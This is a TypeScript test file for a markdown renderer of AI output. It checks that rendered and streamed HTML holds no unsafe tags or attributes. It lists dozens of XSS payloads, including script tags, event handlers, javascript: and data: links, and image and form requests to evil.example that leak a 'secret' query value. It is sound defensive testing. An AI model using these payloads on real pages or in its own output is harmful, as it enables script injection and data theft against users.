import { describe, expect, test } from 'vitest';
import { Blocks } from './blocks';
import { sanitize } from './sanitize';

const allowedTags = new Set(
  'P BR HR STRONG EM DEL CODE PRE SPAN BLOCKQUOTE UL OL LI H1 H2 H3 H4 H5 H6 TABLE THEAD TBODY TR TH TD DIV'.split(
    ' ',
  ),
);
const allowedAttributes = new Set(['class', 'title', 'start', 'align']);

/** Everything in `html` that could load, run or lead anywhere. */
function dangers(html: string): string[] {
  const page = new DOMParser().parseFromString(html, 'text/html');
  return [...page.body.querySelectorAll('*')].flatMap((element) => {
    const attributes = [...element.attributes].map((attribute) => attribute.name);
    return [
      ...(allowedTags.has(element.tagName) ? [] : [element.tagName]),
      ...attributes
        .filter((name) => !allowedAttributes.has(name))
        .map((name) => `${element.tagName}[${name}]`),
    ];
  });
}

const payloads = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/?q=secret">',
  '![x](https://evil.example/?q=secret)',
  '![x](javascript:alert(1))',
  '![x][1]\n\n[1]: https://evil.example/pixel.png',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java&#115;cript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '[a](https://evil.example "title\\" onmouseover=\\"alert(1)")',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=https://evil.example target=_blank>x</a>',
  '<javascript:alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><use href="data:image/svg+xml;base64,AAAA#x"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=x><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<div onclick=alert(1) id=app class="x" data-x=1>x</div>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<custom-element onpointerenter=alert(1)>x</custom-element>',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js onmouseover=alert(1)\n"</code></pre><img src=x onerror=alert(1)>"\n```',
  '`<img src=x onerror=alert(1)>`',
  '    <script>alert(1)</script>',
  '| a | b |\n|--|--|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '- [ ] <img src=x onerror=alert(1)>\n- [x] [y](javascript:alert(1))',
  '> <script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  'https://evil.example/"onmouseover="alert(1)',
  'www.evil.example/<script>alert(1)</script>',
  'a@b.example"><img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<img src=x\u0000 onerror=alert(1)>',
  '<\u0000script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
];

describe('what a model writes can not load, run or lead anywhere', () => {
  test.each(payloads)('%j', (payload) => {
    for (const source of [payload, `Words before.\n\n${payload}\n\nWords after.`, `- a\n\n  ${payload}`]) {
      const html = new Blocks()
        .update(source)
        .map((block) => block.html)
        .join('');
      expect(dangers(html)).toEqual([]);
    }
  });

  test('also while it streams in', () => {
    for (const payload of payloads) {
      const blocks = new Blocks();
      for (let end = 5; end < payload.length; end += 9) {
        const html = blocks.update(payload.slice(0, end)).map((block) => block.html);
        expect(dangers(html.join(''))).toEqual([]);
      }
    }
  });
});

test('the sanitiser alone stops what a renderer might let through', () => {
  for (const payload of payloads) expect(dangers(sanitize(payload))).toEqual([]);
});

test('HTML is shown as the text it is', () => {
  const [block] = new Blocks().update('<b>bold</b> and <script>alert(1)</script>');
  const page = new DOMParser().parseFromString(block?.html ?? '', 'text/html');
  expect(page.body.textContent).toBe('<b>bold</b> and <script>alert(1)</script>');
});

test('links and images are words with their address', () => {
  const [link] = new Blocks().update('[the page](https://example.org/a?b=1&c=2)');
  expect(link?.html).toContain('the page');
  expect(link?.html).toContain('https://example.org/a?b=1&amp;c=2');
  const [image] = new Blocks().update('![a cat](https://example.org/cat.png)');
  expect(image?.html).toContain('a cat');
  expect(image?.html).toContain('https://example.org/cat.png');
  const [plain] = new Blocks().update('https://example.org');
  expect(plain?.html.match(/example\.org/g)).toHaveLength(1);
});
